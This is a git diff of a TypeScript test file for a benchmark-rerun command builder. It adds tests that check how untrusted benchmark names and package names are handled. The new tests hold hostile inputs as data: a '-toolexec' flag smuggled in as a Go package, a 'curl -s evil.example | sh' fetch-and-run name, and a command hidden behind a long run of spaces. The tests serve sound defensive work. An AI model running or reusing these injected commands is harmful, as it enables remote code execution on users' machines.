@@ -1,7 +1,9 @@
 import { describe, expect, it } from 'vitest'
 import { comparison } from '../../test/support/report-builders.js'
 import type { BenchmarkId } from '../model/benchmark-result.js'
-import { quoteRegex, rerunFilters, rerunList, shellQuote } from './rerun-filters.js'
+import { rerunFilters, rerunList } from './rerun-filters.js'
+
+const OWN = { foreignHead: false }
 
 const regression = (id: BenchmarkId, format: string, gated = true) =>
   comparison({ id, format, gated, base: 100, head: 130, class: 'regression', strength: 'strong' })
@@ -25,11 +27,14 @@ describe('rerunList', () => {
 
 describe('rerunFilters', () => {
   it('gives Google Benchmark an anchored --benchmark_filter that selects exactly those names', () => {
-    const [filter] = rerunFilters([
-      regression({ name: 'BM_Crc32/1024' }, 'google-benchmark-json'),
-      inconclusive({ name: 'BM_Sort<int>/8/real_time' }, 'google-benchmark-json'),
-      unchanged({ name: 'BM_Crc32/10240' }, 'google-benchmark-json'),
-    ])
+    const [filter] = rerunFilters(
+      [
+        regression({ name: 'BM_Crc32/1024' }, 'google-benchmark-json'),
+        inconclusive({ name: 'BM_Sort<int>/8/real_time' }, 'google-benchmark-json'),
+        unchanged({ name: 'BM_Crc32/10240' }, 'google-benchmark-json'),
+      ],
+      OWN,
+    )
     expect(filter?.filter).toBe('^(BM_Crc32/1024|BM_Sort<int>/8/real_time)$')
     expect(filter?.command).toBe(
       "<benchmark binary> --benchmark_filter='^(BM_Crc32/1024|BM_Sort<int>/8/real_time)$' --benchmark_repetitions=20",
@@ -42,17 +47,23 @@ describe('rerunFilters', () => {
   })
 
   it('gives go test one alternation per sub-benchmark level, the packages and the procs', () => {
-    const [filter] = rerunFilters([
-      regression(
-        { suite: 'example.com/codec', name: 'BenchmarkDecode/size=1024', procs: 8 },
-        'go-test-text',
-      ),
-      regression(
-        { suite: 'example.com/codec', name: 'BenchmarkDecode/size=64', procs: 8 },
-        'go-test-text',
-      ),
-      inconclusive({ suite: 'example.com/hash', name: 'BenchmarkCRC32', procs: 8 }, 'go-test-json'),
-    ])
+    const [filter] = rerunFilters(
+      [
+        regression(
+          { suite: 'example.com/codec', name: 'BenchmarkDecode/size=1024', procs: 8 },
+          'go-test-text',
+        ),
+        regression(
+          { suite: 'example.com/codec', name: 'BenchmarkDecode/size=64', procs: 8 },
+          'go-test-text',
+        ),
+        inconclusive(
+          { suite: 'example.com/hash', name: 'BenchmarkCRC32', procs: 8 },
+          'go-test-json',
+        ),
+      ],
+      OWN,
+    )
     expect(filter).toMatchObject({
       format: 'go-test-text',
       harness: 'go test',
@@ -61,15 +72,19 @@ describe('rerunFilters', () => {
         "go test -run='^$' -bench='^(BenchmarkDecode)$/^(size=1024|size=64)$' -cpu=8 -count=20 'example.com/codec'",
     })
     expect(
-      rerunFilters([inconclusive({ name: 'BenchmarkX.Y', procs: 1 }, 'go-test-json')])[0]?.command,
+      rerunFilters([inconclusive({ name: 'BenchmarkX.Y', procs: 1 }, 'go-test-json')], OWN)[0]
+        ?.command,
     ).toBe("go test -run='^$' -bench='^(BenchmarkX\\.Y)$' -cpu=1 -count=20 ./...")
   })
 
   it('gives pytest a -k expression of test names, splitting characters -k cannot hold', () => {
-    const [filter] = rerunFilters([
-      regression({ name: 'tests/test_p.py::test_parse[small]' }, 'pytest-benchmark-json'),
-      regression({ name: 'tests/test_p.py::TestIo::test_read[a b,or]' }, 'pytest-benchmark-json'),
-    ])
+    const [filter] = rerunFilters(
+      [
+        regression({ name: 'tests/test_p.py::test_parse[small]' }, 'pytest-benchmark-json'),
+        regression({ name: 'tests/test_p.py::TestIo::test_read[a b,or]' }, 'pytest-benchmark-json'),
+      ],
+      OWN,
+    )
     expect(filter?.filter).toBe('test_parse[small] or (test_read[a and b and or])')
     expect(filter?.command).toBe(
       "pytest --benchmark-only --benchmark-min-rounds=20 -k 'test_parse[small] or (test_read[a and b and or])'",
@@ -77,31 +92,57 @@ describe('rerunFilters', () => {
   })
 
   it('gives hyperfine its commands with parameters filled in, quoted for the shell', () => {
-    const [filter] = rerunFilters([
-      regression({ name: "grep -c 'a|b' big.txt | wc -l" }, 'hyperfine-json'),
-      regression(
-        { name: '{impl}-{mode}', params: { impl: 'fast', mode: 'llvm' } },
-        'hyperfine-json',
-      ),
-    ])
+    const [filter] = rerunFilters(
+      [
+        regression({ name: "grep -c 'a|b' big.txt | wc -l" }, 'hyperfine-json'),
+        regression(
+          { name: '{impl}-{mode}', params: { impl: 'fast', mode: 'llvm' } },
+          'hyperfine-json',
+        ),
+      ],
+      OWN,
+    )
     expect(filter?.filter).toBe("'grep -c '\\''a|b'\\'' big.txt | wc -l' 'fast-llvm'")
     expect(filter?.command).toBe(`hyperfine --runs 30 ${filter?.filter ?? ''}`)
   })
 
   it('skips formats whose harness cannot select benchmarks', () => {
-    expect(rerunFilters([regression({ name: 'fib 20' }, 'catch2-xml')])).toEqual([])
+    expect(rerunFilters([regression({ name: 'fib 20' }, 'catch2-xml')], OWN)).toEqual([])
   })
 })
 
-describe('quoting', () => {
-  it('escapes regex metacharacters and replaces control characters by any-character', () => {
-    expect(quoteRegex('a.b*c(d)[e]{f}|g^$\\h\ni')).toBe(
-      'a\\.b\\*c\\(d\\)\\[e\\]\\{f\\}\\|g\\^\\$\\\\h.i',
+describe('commands built from untrusted names', () => {
+  it('never puts a Go package that is not an import path on the command line (it could be a flag)', () => {
+    const [filter] = rerunFilters(
+      [
+        regression({ suite: '-toolexec=/tmp/x', name: 'BenchmarkA', procs: 2 }, 'go-test-text'),
+        regression({ suite: 'example.com/ok', name: 'BenchmarkB', procs: 2 }, 'go-test-text'),
+      ],
+      OWN,
     )
+    expect(filter?.command).toBe(
+      "go test -run='^$' -bench='^(BenchmarkA|BenchmarkB)$' -cpu=2 -count=20 ./...",
+    )
+    expect(filter?.command).not.toContain('toolexec')
   })
 
-  it('single-quotes shell words, and ANSI-C quotes those with control characters', () => {
-    expect(shellQuote("it's")).toBe("'it'\\''s'")
-    expect(shellQuote("a\nb'c")).toBe("$'a\\x0ab\\'c'")
+  it("offers no hyperfine command when the head's results come from a fork: the name is the fork's command", () => {
+    const comparisons = [
+      regression({ name: 'sleep 0.1; curl -s evil.example | sh' }, 'hyperfine-json'),
+      regression({ name: 'BM_A' }, 'google-benchmark-json'),
+    ]
+    expect(rerunFilters(comparisons, { foreignHead: true }).map((f) => f.format)).toEqual([
+      'google-benchmark-json',
+    ])
+    expect(rerunFilters(comparisons, OWN).map((f) => f.format)).toEqual([
+      'hyperfine-json',
+      'google-benchmark-json',
+    ])
+  })
+
+  it('spells out a run of spaces that would push a command out of view', () => {
+    const name = `sleep 1${' '.repeat(110)}; curl x|sh`
+    const [filter] = rerunFilters([regression({ name }, 'hyperfine-json')], OWN)
+    expect(filter?.command).toBe(`hyperfine --runs 30 $'sleep 1${'\\x20'.repeat(110)}; curl x|sh'`)
   })
 })
